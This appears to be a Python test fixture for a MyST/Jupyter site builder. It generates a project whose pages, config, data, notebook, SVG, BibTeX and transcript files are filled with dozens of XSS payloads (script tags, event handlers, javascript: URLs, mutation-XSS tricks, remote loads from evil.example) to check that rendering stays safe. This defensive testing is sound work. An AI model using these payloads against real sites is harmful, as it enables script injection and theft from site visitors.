"""A course of attacks: what is known to run in one reader or another, written from descriptions."""

# ruff: noqa: E501 - an attack reads best on one line

import json
from collections.abc import Mapping, Sequence

from neuromatch_site.config.schema import schemas
from neuromatch_site.config.value import Data

ACTS = "window.canary=1;alert(1)"
"""What an attack runs, if it runs."""

_HTML = [
    "<script>{0}</script>",
    "<SCRIPT\n>{0}</SCRIPT >",
    "<script src=data:text/javascript,{0}></script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror={0}>",
    '<img src="x" onerror="{0}" alt="a">',
    "<img/src=x/onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate attributeName=href values=javascript:{0} /><a id=x><text>x</text></a></svg>",
    "<body onload={0}>",
    "<details open ontoggle={0}><summary>s</summary>t</details>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}></select>",
    "<video><source onerror={0} src=x></video>",
    "<audio src=x onerror={0}></audio>",
    "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=javascript:{0}></object>",
    "<object data=act.svg type=image/svg+xml></object>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><button>b</button></form>",
    "<button formaction=javascript:{0}>b</button>",
    "<a href=javascript:{0}>a</a>",
    "<a href='java\nscript:{0}'>a</a>",
    "<a href=&#106;avascript&colon;{0}>a</a>",
    "<a href='\x01javascript:{0}'>a</a>",
    "<a href=data:text/html,<script>{0}</script>>a</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'; * {{ background: url(https://evil.example/) }}</style>",
    "<div style='background:url(https://evil.example/x)'>d</div>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>t</table>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={0}&gt;'>",
    "<math href=javascript:{0}>m</math>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<textarea></textarea><img src=x onerror={0}>",
    "<template><img src=x onerror={0}></template>",
    "<xmp><img src=x onerror={0}></xmp>",
    "<!--><img src=x onerror={0}>-->",
    "<!-- --!><img src=x onerror={0}> -->",
    "<![CDATA[><img src=x onerror={0}>]]>",
    "<?xml ?><img src=x onerror={0}>",
    "<b <img src=x onerror={0}>>",
    "<a title='\"><img src=x onerror={0}>'>a</a>",
    "<p id=location><p name=body><p id=document>",
    "<x-y onclick={0}>x</x-y>",
    "<marquee onstart={0}>m</marquee>",
    "<p style='animation-name:x' onanimationstart={0}>p</p>",
    # MathML
    "<math><maction actiontype=statusline#https://evil.example/ href=javascript:{0}>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={0}></annotation-xml></math>",
    "<math><mi xlink:href=javascript:{0}>x</mi><mi><style><img src=x onerror={0}></style></mi></math>",
    # SVG
    "<svg><a xlink:href=javascript:{0}><text x=9 y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload={0}>#x></use></svg>",
    "<svg><set attributeName=onmouseover to={0}></svg><svg><image href=https://evil.example/x></svg>",
    "<svg><style><img src=x onerror={0}></style></svg><svg><title><style><img src=x onerror={0}>",
    # CSS
    "<p style='background-image:url(javascript:{0})'>p</p><p style='behavior:url(x.htc)'>p</p>",
    "<p style='position:fixed;inset:0;z-index:9999999' class=dialog>p</p>",
    '<div class="search__result" data-module="search" data-src="javascript:{0}">d</div>',
    # What our own scripts look for
    '<button class="copy" data-module="copy" data-copy="{0}" data-clipboard="<img onerror={0}>">b</button>',
    '<button class="video__play" data-embed="javascript:{0}" data-module="video">b</button>',
    '<a data-preview="javascript:{0}" data-module="preview" href="page-1/">p</a>',
    '<div data-root="https://evil.example/" data-module="progress" data-week="{0}">d</div>',
    '<script type="application/ld+json">{{"@context":"</script><script>{0}</script>"}}</script>',
    "<form id=x><input name=parentNode><input name=attributes></form><img name=currentScript>",
]
_MYST = [
    "[a](javascript:{0})",
    "[a](<java\tscript:{0}>)",
    "<javascript:{0}>",
    "[a][r]\n\n[r]: javascript:{0}",
    "![a](javascript:{0})",
    '![a"onerror="{0}](x.png "t\\"onerror=\\"{0}")',
    "[a]{{onclick={0}}}",
    '[a]{{.b style="background:url(https://evil.example/)"}}',
    "{{span .a onclick={0}}}`x`",
    '(label"onclick="{0})=\n## Heading <img src=x onerror={0}>',
    ':::{{note}} <img src=x onerror={0}>\n:class: "><img src=x onerror={0}>\nx\n:::',
    ':::{{figure}} act.svg\n:alt: "><img src=x onerror={0}>\n:width: 1px" onload="{0}\n\nc\n:::',
    "```{{raw}} html\n<script>{0}</script>\n```",
    "{{raw:html}}`<img src=x onerror={0}>`",
    '```js" onclick="{0}\n</code></pre><script>{0}</script>\n```',
    "```{{code-block}} html\n:caption: <script>{0}</script>\n:filename: <script>{0}</script>\n<script>{0}</script>\n```",
    "$\\href{{javascript:{0}}}{{x}}$ $\\text{{<img src=x onerror={0}>}}$ $\\htmlData{{onclick={0}}}{{x}}$",
    "```{{mermaid}}\ngraph TD; A[<img src=x onerror={0}>]; click A javascript:{0}\n```",
    "```{{iframe}} javascript:{0}\n```",
    '```{{iframe}} https://evil.example/\n:title: "><img src=x onerror={0}>\n```',
    ":::{{nma-video}} <img src=x onerror={0}>\n:youtube: dQw4w9WgXcQ\n:::",
    ":::{{card}} <img src=x onerror={0}>\n:link: javascript:{0}\nx\n:::",
    "{{button}}`b <javascript:{0}>`",
    '{{abbr}}`A ("><img src=x onerror={0}>)`',
    '::::{{tab-set}}\n:::{{tab-item}} <img src=x onerror={0}>\n:sync: "><img src=x onerror={0}>\nx\n:::\n::::',
    "```{{glossary}}\n<img src=x onerror={0}>\n: d\n```",
    "{{cite:t}}`evil` [@10.5555/evil]",
    "| <img src=x onerror={0}> |\n|---|\n| <script>{0}</script> |",
    "Note[^1]\n\n[^1]: <img src=x onerror={0}>",
    "{{{{ '<script>{0}</script>' }}}} {{%% <script>{0}</script> %%}}",
    "```{{anywidget}} https://evil.example/x.mjs\n{{}}\n```",
    "![](https://evil.example/x.png)",
    "```{{mermaid}}\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph TD\nA[\"<img src=x onerror={0}>\"]\n```",
    '```{{embed}} #x\\"><img src=x onerror={0}>\n```',
    "```{{proof:theorem}} <img src=x onerror={0}>\nx\n```",
    "```{{exercise}} <img src=x onerror={0}>\n:label: e\nx\n```\n```{{solution}} e\n<script>{0}</script>\n```",
    "{{download}}`<img src=x onerror={0}> <act.svg>` {{doc}}`<img src=x onerror={0}> <page-1.md>`",
    "{{si}}`1 <\\<img src=x onerror={0}>>` {{chem}}`<script>{0}</script>` {{kbd}}`<b onclick={0}>`",
    '```{{list-table}} <img src=x onerror={0}>\n* - "><script>{0}</script>\n```',
    "```{{csv-table}} <img src=x onerror={0}>\n<script>{0}</script>,b\n```",
    ":::{{nma-slides}} snv4m\n:title: <img src=x onerror={0}>\n:::",
    "```{{toc}}\n:depth: <script>{0}</script>\n```",
    '$\\includegraphics{{https://evil.example/x}}$ $\\url{{javascript:{0}}}$ $\\class{{x" onclick={0}}}{{y}}$',
    "$\\begin{{matrix}}\\htmlStyle{{background:url(https://evil.example/)}}{{x}}\\end{{matrix}}$",
    "[x](page-1.md '\"><img src=x onerror={0}>') [](#t\"><img src=x onerror={0}>)",
]
_OUTPUTS = {
    "text/html": "<div onclick={0}><script>{0}</script><img src=x onerror={0}>"
    "<iframe src=javascript:{0}></iframe><style>*{{x:y}}</style><table><tr><td>1</td></tr></table></div>",
    "application/javascript": "{0}",
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'><script>{0}</script></svg>",
    "text/markdown": "<img src=x onerror={0}> [a](javascript:{0})",
    "text/html+style": "<style>@import 'https://evil.example/x.css';</style><div style='background:url(https://evil.example/)'>x</div>",
    "application/vnd.plotly.v1+json": '{{"data": [{{"name": "<img src=x onerror={0}>"}}]}}',
    "application/vnd.bokehjs_exec.v0+json": "<script>{0}</script>",
    "text/latex": "$\\href{{javascript:{0}}}{{x}}$",
    "application/vnd.jupyter.widget-view+json": "{{}}",
}
_TITLE = f"</script></title><img src=x onerror={ACTS}>"


def attack_course() -> dict[str, str]:
    """Return the files of the course, by path."""
    matter = json.dumps({"title": f"{_TITLE} page", "description": _TITLE, "keywords": [_TITLE]})
    texts = [text.format(ACTS) for text in (*_HTML, *_MYST)]
    pages = {f"page-{n // 12}.md": "" for n in range(len(texts))}
    for number, text in enumerate(texts):
        pages[f"page-{number // 12}.md"] += f"\n\nAttack {number}:\n\n{text}\n"
    return {
        "myst.yml": _config(),
        "index.md": "# Front\n\n[one](page-0.md) [two](page-1.md)\n",
        **{name: f"---\n{matter}\n---\n\n# Page\n{text}" for name, text in pages.items()},
        "notebook.ipynb": json.dumps(_notebook()),
        "matter.md": f"---\n{json.dumps(_filled('page', left=('site', 'exports', 'export', 'draft')))}\n---\n# M\n",
        "conference.md": "---\nsite: {template: conference}\n---\n# Conference\n",
        **{f"data/{name}.yml": json.dumps(_filled(name)) for name in _DATA},
        "transcripts/dQw4w9WgXcQ.en.vtt": _TRANSCRIPT.format(ACTS),
        "lock/videos.json": json.dumps({"youtube:dQw4w9WgXcQ": dict.fromkeys(_VIDEO, _TITLE)}),
        "lock/citations.json": json.dumps({"10.5555/evil": _item()}),
        "act.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{ACTS}</script></svg>",
        "references.bib": f"@misc{{evil, title={{<img src=x onerror={ACTS}>}}, author={{<b>, X}},"
        f" year=2020, url={{javascript:{ACTS}}}, howpublished={{<script>{ACTS}</script>}}}}",
    }


_DATA = ("announcements", "conference", "people", "schedule")
_VIDEO = ("title", "author", "thumbnail", "html", "uploaded", "url")
_TRANSCRIPT = """WEBVTT

STYLE
::cue {{ background: url(https://evil.example/) }}

00:00.000 --> 00:04.000
<v "><img src=x onerror={0}>><img src=x onerror={0}></v> <script>{0}</script>

00:05.000 --> 00:09.000
&lt;img src=x onerror={0}&gt; &lt;/script&gt;<00:06.000>javascript:{0}
"""


def _item() -> dict[str, object]:
    name = {"family": f"<img src=x onerror={ACTS}>", "given": f"<script>{ACTS}</script>"}
    texts = {"title": _TITLE, "container-title": _TITLE, "publisher": _TITLE, "note": _TITLE}
    about = {"id": "evil", "type": "article-journal", "issued": {"date-parts": [[2020]]}}
    return {**about, **texts, "author": [name], "DOI": "10.5555/evil", "URL": f"javascript:{ACTS}"}


def _filled(name: str, left: Sequence[str] = ()) -> Data:
    """Return data with every key that the schema of that name knows, hostile where it can be."""
    schema = schemas()[name]
    definitions, properties = schema.get("$defs"), schema.get("properties")
    known = definitions if isinstance(definitions, Mapping) else {}
    if not isinstance(properties, Mapping):
        return _hostile(schema, known, name)
    kept = {key: value for key, value in properties.items() if key not in left}
    return _hostile({**schema, "properties": kept}, known, name)


def _hostile(schema: Data, known: Mapping[str, Data], name: str) -> Data:
    if not isinstance(schema, Mapping):
        return _TITLE
    reference, ways, choices = schema.get("$ref"), schema.get("anyOf"), schema.get("enum")
    if isinstance(reference, str):
        return _hostile(known.get(reference.rpartition("/")[2]), known, name)
    if isinstance(ways, Sequence):
        return _hostile(ways[0], known, name)
    if isinstance(choices, Sequence):
        return choices[0]
    return _inside(schema, known, name)


def _inside(schema: Mapping[str, Data], known: Mapping[str, Data], name: str) -> Data:
    properties, items = schema.get("properties"), schema.get("items")
    if isinstance(properties, Mapping) and properties:
        return {key: _hostile(one, known, str(key)) for key, one in properties.items()}
    return _plain(name, schema.get("type")) if items is None else [_hostile(items, known, name)]


def _plain(name: str, kind: Data) -> Data:
    """Return what acts, where it is read as such; dates, numbers and pages that are right."""
    named: Mapping[str, Data] = {"page": "page-0.md", "file": "page-0.md", "time": "10:00"}
    if name in named:
        return named[name]
    if name in ("date", "start", "end", "until", "day", "registration", "submission"):
        return "2026-01-31"
    if "url" in name.lower() or name in ("orcid", "website", "github", "source"):
        return f"javascript:{ACTS}"
    plain: Mapping[str, Data] = {"integer": 5, "number": 5, "boolean": True, "object": {}}
    return plain.get(str(kind), _TITLE)


def _config() -> str:
    author = {"name": f"<img src=x onerror={ACTS}>", "url": f"javascript:{ACTS}"}
    project: dict[str, object] = {"abbreviations": {"Attack": _TITLE}, "subtitle": _TITLE}
    project |= {"doi": "10.5281/zenodo.1", "license": "CC-BY-4.0", "venue": {"title": _TITLE}}
    project |= {"title": _TITLE, "description": _TITLE, "authors": [author], "keywords": [_TITLE]}
    link = {"title": _TITLE, "url": f"javascript:{ACTS}"}
    options: dict[str, object] = {
        "remote_images": "block",
        "logo_text": _TITLE,
        "logo": "act.svg",
        "logo_alt": _TITLE,
    }
    options |= {"progress": True, "logo_url": f"javascript:{ACTS}", "analytics_plausible": _TITLE}
    site = {"title": _TITLE, "nav": [link], "actions": [link], "options": options}
    return json.dumps({"version": 1, "project": project, "site": site})


def _notebook() -> dict[str, object]:
    outputs = [
        {"output_type": "display_data", "data": {kind: text.format(ACTS)}, "metadata": {}}
        for kind, text in _OUTPUTS.items()
    ]
    escape = f"\x1b[31m<img src=x onerror={ACTS}>\x1b]8;;javascript:{ACTS}\x07link\x1b]8;;\x07"
    stream = {"output_type": "stream", "name": "stdout", "text": escape}
    error = {"output_type": "error", "ename": "<b>", "evalue": "<i>", "traceback": [escape]}
    code = {
        "cell_type": "code",
        "metadata": {},
        "execution_count": 1,
        "source": f"'</code><script>{ACTS}</script>'",
        "outputs": [*outputs, stream, error],
    }
    words = {
        "cell_type": "markdown",
        "metadata": {},
        "source": f"# N\n\n<img src=x onerror={ACTS}>",
    }
    raw = {"cell_type": "raw", "metadata": {}, "source": f"<script>{ACTS}</script>"}
    return {"cells": [words, code, raw], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
